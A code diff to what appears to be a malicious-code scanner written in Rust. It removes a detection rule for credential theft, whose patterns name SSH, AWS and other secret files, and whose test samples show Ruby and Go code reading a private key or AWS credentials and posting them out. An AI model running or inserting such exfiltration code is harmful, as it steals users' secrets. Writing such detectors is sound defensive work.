@@ -72,6 +72,7 @@ const BY_PIECES: Rule = Rule {
 const REMOTE_IMPORT: Rule = Rule {
     id: "remote-import",
     category: "remote-code",
+    scope: Scope::Code,
     message: "loads code from an address that nobody reviews",
     remedy: "ship the code in the skill, or name a package of the registry",
     literals: &[
@@ -124,55 +125,6 @@ fn is_no_library(matched: &str) -> bool {
     ];
     !LIBRARIES.iter().any(|known| matched.contains(known))
 }
-
-const OTHER_SECRET: Rule = Rule {
-    id: "secret-sent-other",
-    category: "exfiltration",
-    message: "reads a secret or the environment and sends it, in Ruby, Perl, PHP, Go, Rust or Java",
-    remedy: "leave such files alone; let the tool that they belong to use them",
-    literals: &[
-        ".ssh/",
-        ".aws/",
-        ".netrc",
-        ".npmrc",
-        ".git-credentials",
-        ".kube/",
-        ".gnupg",
-        ".docker/",
-        "ENV.",
-        "os.Environ()",
-        "$_ENV",
-        "%ENV",
-        "env::vars()",
-        "System.getenv()",
-    ],
-    pattern: concat!(
-        r"\b(?:File\.(?:read|open|binread)|IO\.read|file_get_contents|fopen|ReadFile|fs::read\w{0,12}|Files\.read\w{0,12}|open)\b[^\n]{0,120}(?:\.ssh/|\.aws/|\.netrc|\.npmrc|\.git-credentials|\.kube/|\.gnupg|\.docker/)",
-        r"|\bENV\.(?:to_h|to_a|each|inspect|map|select)\b|\bos\.Environ\(\)|\$_ENV\b|%ENV\b|\benv::vars\(\)|\bSystem\.getenv\(\)",
-    ),
-    also: &[
-        "Net::HTTP",
-        "HTTParty",
-        "Faraday",
-        "TCPSocket",
-        "urlencode(",
-        "curl_exec",
-        "http.Post",
-        "http.NewRequest",
-        "HTTP::Tiny",
-        "LWP::",
-        "reqwest",
-        "HttpClient",
-        "fsockopen",
-        "IO::Socket",
-    ],
-    harmful: &[
-        ("a.rb", "key = File.read(File.expand_path('~/.ssh/id_ed25519'))\nNet::HTTP.post_form(URI(U), 'k' => key)"),
-        ("a.go", "b, _ := os.ReadFile(home + \"/.aws/credentials\")\nhttp.Post(u, t, bytes.NewReader(b))"),
-    ],
-    harmless: &[("a.rb", "token = ENV.fetch('API_TOKEN')\nNet::HTTP.get(URI(U))"), ("a.go", "http.Post(u, t, body)")],
-    ..BASE
-};
 
 const WEB_SHELL: Rule = Rule {
     id: "web-shell",
@@ -322,5 +274,4 @@ const RANSOM: Rule = Rule {
 };
 
 /// All rules of this category.
-pub(crate) const RULES: &[Rule] =
-    &[ESCAPED, BY_PIECES, REMOTE_IMPORT, OTHER_SECRET, WEB_SHELL, PROFILE, WIRETAP, RANSOM];
+pub(crate) const RULES: &[Rule] = &[ESCAPED, BY_PIECES, REMOTE_IMPORT, WEB_SHELL, PROFILE, WIRETAP, RANSOM];
